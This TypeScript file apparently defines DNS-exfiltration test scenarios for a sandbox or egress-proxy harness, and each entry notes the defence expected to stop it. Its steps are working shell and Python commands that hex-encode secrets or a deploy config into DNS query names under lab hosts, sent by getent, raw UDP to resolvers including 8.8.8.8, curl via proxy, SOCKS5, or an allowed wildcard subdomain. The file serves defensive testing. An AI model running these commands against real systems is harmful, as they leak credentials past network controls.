/** DNS exfiltration: the secret encoded in query names, towards a resolver the lab controls. */
import type { ScenarioInput } from '../schema.js';
import { GRAB } from './exfil.js';

const HEX = 'L=$(printf %s "$S" | head -c 120 | xxd -p | tr -d "\\n" | cut -c1-60)';
const toDns = [{ kind: 'canary', where: 'dns' }] as const;

export const DNS_SCENARIOS: ScenarioInput[] = [
  { id: 'dns-getent', class: 'dns-exfil', title: 'resolve <hex-secret>.exfil.lab.test with the system resolver', shared: true, steps: [GRAB, HEX, 'getent hosts "$L.exfil.lab.test"; echo getent=$?'], success: [...toDns], stoppedBy: 'sandbox: no resolver configuration and no route to any DNS server', quick: true },
  { id: 'dns-raw-udp', class: 'dns-exfil', title: 'raw UDP queries to 127.0.0.1:53 and the host\'s nameservers', shared: true, needs: ['python3'], steps: [GRAB, HEX, 'python3 -c "import socket,sys\nq=b\'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\'+b\'\'.join(bytes([len(x)])+x.encode() for x in (sys.argv[1][:60],\'exfil\',\'lab\',\'test\'))+b\'\\x00\\x00\\x01\\x00\\x01\'\nfor h in (\'127.0.0.1\',\'127.0.0.53\',\'10.0.2.3\',\'8.8.8.8\'):\n  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1)\n  try: s.sendto(q,(h,53)); print(h,s.recv(512)[:4])\n  except Exception as e: print(h,e)" "$L"'], success: [...toDns], stoppedBy: 'sandbox: own network namespace, loopback only' },
  { id: 'dns-via-proxy-name', class: 'dns-exfil', title: 'make the proxy resolve <hex>.exfil.lab.test (HTTP and CONNECT)', shared: true, steps: [GRAB, HEX, 'curl -s -i -m 5 "http://$L.exfil.lab.test/"', 'curl -s -i -m 5 -p "http://$L.exfil.lab.test:443/"'], success: [...toDns], stoppedBy: 'egress proxy: names are resolved only after policy allowed them' },
  { id: 'dns-via-socks', class: 'dns-exfil', title: 'SOCKS5 with a remote name <hex>.exfil.lab.test', shared: true, steps: [GRAB, HEX, 'curl -s -m 5 --socks5-hostname 127.0.0.1:1080 "http://$L.exfil.lab.test/"; echo socks=$?'], success: [...toDns], stoppedBy: 'egress proxy: names are resolved only after policy allowed them' },
  { id: 'dns-allowed-wildcard', class: 'dns-exfil', title: 'encode the token into a subdomain of an allowed wildcard (*.cdn.lab.test)', shared: true, needs: ['dlp-egress'], steps: ['L=$(head -c 100 ops/deploy.json | xxd -p | tr -d "\\n" | cut -c1-60)', 'curl -s -i -m 5 "http://$L.cdn.lab.test/"'], success: [...toDns], stoppedBy: 'egress proxy: DLP on hex labels of the host name before resolving' },
];
